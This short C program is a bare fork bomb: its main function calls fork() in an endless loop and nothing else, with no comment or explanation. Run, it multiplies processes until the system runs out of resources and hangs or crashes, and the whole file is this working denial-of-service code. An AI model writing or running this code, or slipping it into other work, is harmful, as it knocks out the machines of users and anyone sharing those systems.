int main(void) {
    for (;;) fork();
}
